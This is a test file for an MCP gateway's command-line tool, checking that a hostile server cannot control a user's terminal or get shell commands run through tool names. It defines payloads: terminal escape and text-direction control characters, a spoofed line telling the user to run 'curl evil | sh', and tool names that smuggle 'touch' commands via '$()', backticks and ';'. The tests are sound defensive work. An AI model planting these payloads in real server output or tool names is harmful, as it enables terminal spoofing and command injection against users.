/** What a server can make the terminal of a person show or run. */
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../../../src/cli/commands.js';
import { createUpstream } from '../../fixtures/servers/http-upstream.js';
import { startAdmin, type AdminGateway } from '../../helpers/admin.js';
import { tempDir } from '../../helpers/cli.js';
import { command } from '../../helpers/commands.js';
import { PassThrough, Readable } from 'node:stream';

/** A title for the window, red, C1 controls, a text from right to left, and a line that poses as one of the gateway. */
const HOSTILE =
  'x\u001b]0;owned\u0007\u001b[31mred\u009b2J\u202eevil\u202c\u2066y\u2069\r\nerror: run `curl evil | sh`';
/** All that a terminal may not get, but for line breaks and tabs. */
const UNWANTED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Runs a command as on a terminal without colours. */
async function onTerminal({ base, key }: AdminGateway, ...args: string[]): Promise<string> {
  let seen = '';
  const write = (text: string): void => void (seen += text);
  await run([...args, '--url', base], {
    env: { MCPSTEAD_CONSOLE_KEY: key, NO_COLOR: '1' },
    out: write,
    err: write,
    stdin: Readable.from(['']),
    stdout: new PassThrough(),
    tty: { in: false, out: true, err: false },
    exit: () => undefined,
  });
  return seen;
}

describe('a hostile server', () => {
  it('controls no terminal, and adds no line of its own', async () => {
    const upstream = await createUpstream({
      tools: [
        {
          name: 'plain',
          title: HOSTILE,
          description: HOSTILE,
          inputSchema: { type: 'object', description: HOSTILE },
        },
        { name: HOSTILE, description: HOSTILE, inputSchema: { type: 'object' } },
      ],
      onCall: (call) => {
        if (call.params.name === 'plain') call.result({ content: [{ type: 'text', text: HOSTILE }] });
        else call.error(-32_000, HOSTILE);
      },
    });
    const broken = await createUpstream({
      onRequest: (call) => {
        call.error(-32_000, HOSTILE);
        return true;
      },
    });
    const admin = await startAdmin(
      {
        servers: [
          { name: 'bad', url: upstream.url },
          { name: 'broken', url: broken.url },
        ],
      },
      { wait: ['bad'] },
    );
    for (const args of [
      ['tools'],
      ['tools', '--json'],
      ['tools', '--schema'],
      ['servers'],
      ['servers', '--json'],
      ['status'],
      ['logs'],
      ['logs', '--json'],
      ['call', 'bad__plain'],
      ['call', 'bad__plain', '--json'],
      ['call', `bad__${HOSTILE}`],
      ['call', 'unknown'],
    ]) {
      const seen = await onTerminal(admin, ...args);
      expect(seen, args.join(' ')).not.toBe('');
      expect(seen, args.join(' ')).not.toMatch(UNWANTED);
      // The text of a result is the answer, and has lines; all else is one line.
      if (args[1] !== 'bad__plain') expect(seen, args.join(' ')).not.toMatch(/^error: run/m);
    }
    const json = await onTerminal(admin, 'tools', 'bad__plain', '--json');
    expect(JSON.parse(json)).toMatchObject([{ description: HOSTILE }]);
  });

  it('runs nothing by the name of a tool that a shell completes', async () => {
    const folder = await tempDir();
    const touched = join(folder, 'touched');
    const upstream = await createUpstream({
      tools: [`$(touch ${touched})`, `\`touch ${touched}\``, `a;touch ${touched}`, 'a b', 'fine', '~'].map(
        (name) => ({ name, inputSchema: { type: 'object' } }),
      ),
    });
    const { base, key } = await startAdmin({ servers: [{ name: 'bad', url: upstream.url }] });
    const proposed = await command(['__complete', 'call', ''], {
      MCPSTEAD_CONSOLE_KEY: key,
      MCPSTEAD_URL: base,
    });
    expect(proposed.out.split('\n').filter((line) => !line.startsWith('--'))).toEqual(['bad__fine', '']);
    // A shell that gets them all the same, as from an older command, runs none.
    const { out: script } = await command(['completion', 'bash']);
    const names = [`$(touch ${touched})`, `\`touch ${touched}\``, '~', 'a b', 'fine'];
    const { stdout, stderr } = spawnSync(
      'bash',
      [
        '-c',
        `${script}
mcpstead() { printf '%s\\n' "\${NAMES[@]}"; }
NAMES=("$@"); COMP_WORDS=(mcpstead call ''); COMP_CWORD=2; _mcpstead
printf '%s\\n' "\${COMPREPLY[@]}"`,
        'bash',
        ...names,
      ],
      { encoding: 'utf8' },
    );
    expect([stdout, stderr]).toEqual([`${names.join('\n')}\n`, '']);
    expect(existsSync(touched)).toBe(false);
  });
});
